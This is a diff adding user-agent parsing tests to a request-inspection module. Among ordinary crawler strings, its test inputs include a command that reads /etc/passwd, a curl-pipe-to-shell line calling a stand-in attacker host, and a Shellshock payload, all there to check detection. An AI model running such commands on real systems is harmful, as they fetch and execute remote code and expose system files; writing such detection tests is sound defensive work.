@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
 import { decodeValue } from './decode.ts';
-import { inspectionMemo, inspectRequest, type RequestSnapshot } from './inspect.ts';
+import { inspectionMemo, inspectRequest, userAgentForInspection, userAgentProducts, type RequestSnapshot } from './inspect.ts';
 
 const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
 const threshold = 5;
@@ -144,5 +144,29 @@ describe('properties', () => {
       inspectRequest(i % 2 ? request : { ...request, headers: { ...request.headers, host: `host-${i}.example` } });
     }
     assert.ok(inspectionMemo.size <= inspectionMemo.maxEntries, `${inspectionMemo.size} entries`);
+  });
+});
+
+describe('user agents', () => {
+  it('reads the products outside nested or unclosed comments, without contact URLs, emails or stray separators', () => {
+    const products = (ua: string) => userAgentProducts(ua).replace(/\s+/g, ' ');
+    assert.equal(products('DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)'), 'DuckDuckBot/1.1');
+    assert.equal(products('Mozilla/5.0 (compatible; Exabot/3.0 (BiggerBetter); +http://www.exabot.com/go/robot)'), 'Mozilla/5.0');
+    assert.equal(products('Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm'), 'Mozilla/5.0');
+    assert.equal(products('amibot - http://www.amidalla.de - tech@amidalla.com libwww-perl/5.831'), 'amibot - - libwww-perl/5.831');
+    assert.equal(products('Mozilla/5.0 (X11) Mobile Safari/537.36; Bytespider'), 'Mozilla/5.0 Mobile Safari/537.36 Bytespider');
+    // A command line stays one.
+    assert.equal(products('x; cat /etc/passwd'), 'x cat /etc/passwd');
+    assert.equal(products('curl http://evil.example/x.sh | sh'), 'curl | sh');
+  });
+
+  it('gives the ordinary rules the host of a URL, not its path, and comment tokens as a list', () => {
+    assert.equal(userAgentForInspection('MJ12bot/v1.2.0 (http://majestic12.co.uk/bot.php?+)'), 'MJ12bot/v1.2.0 (http://majestic12.co.uk/)');
+    assert.equal(
+      userAgentForInspection('Mozilla/5.0 (Windows NT 6.3; Win64; x64; Trident/7.0; Touch; rv:11.0) like Gecko'),
+      'Mozilla/5.0 (Windows NT 6.3, Win64, x64, Trident/7.0, Touch, rv:11.0) like Gecko',
+    );
+    // Outside a comment a semicolon is still a separator: Shellshock keeps its shape.
+    assert.equal(userAgentForInspection('() { :; }; /bin/bash -c id'), '() { :; }; /bin/bash -c id');
   });
 });
